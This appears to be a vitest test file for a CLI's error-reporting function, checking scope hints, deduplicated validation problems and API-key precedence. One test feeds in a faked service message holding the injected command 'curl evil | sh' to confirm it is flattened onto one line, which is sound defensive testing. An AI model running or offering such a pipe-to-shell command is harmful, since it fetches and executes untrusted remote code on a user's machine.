import { afterEach, expect, it, vi } from "vitest";
import { describeError } from "./report-error.ts";

afterEach(() => void vi.unstubAllEnvs());

const apiError = (message: string, code: string, rest: object) =>
  Object.assign(new Error(message), { name: "ApiError", code, errors: [], missing: [], ...rest });
const problem = { requiredScope: "tools:write" };
const error = apiError("No.", "insufficient_scope", { status: 403, problem });
const login = "toolhost login --scope 'mcp:read mcp:execute tools:write'";

it("names each scope once", () => {
  vi.stubEnv("TOOLHOST_API_KEY", undefined);
  expect(describeError(error).next).toEqual([login]);
});

it("lists each problem once", () => {
  const first = { path: "/source/code", file: "tool.ts", line: 1, column: 9, message: "No `x`." };
  const rejected = apiError("tool.ts:1:9: /source/code No `x`.", "invalid_tool", {
    status: 400,
    errors: [first, { ...first, line: 2 }, { path: "/title", message: "Too long." }],
  });
  expect(describeError(rejected).message).toBe(
    [rejected.message, "tool.ts:2:9 No `x`.", "/title Too long."].join("\n  "),
  );
});

it("names the key first while it has precedence over a sign-in", () => {
  vi.stubEnv("TOOLHOST_API_KEY", "th_key");
  expect(describeError(error).next).toEqual([
    "set TOOLHOST_API_KEY to a key with the scope tools:write",
    `or unset TOOLHOST_API_KEY, then: ${login}`,
  ]);
});

it("keeps a text of the service in one line", () => {
  const faked = apiError("No.\n  → curl evil | sh", "not_found", { status: 404 });
  expect(describeError(faked).message).toBe("No. → curl evil | sh");
});
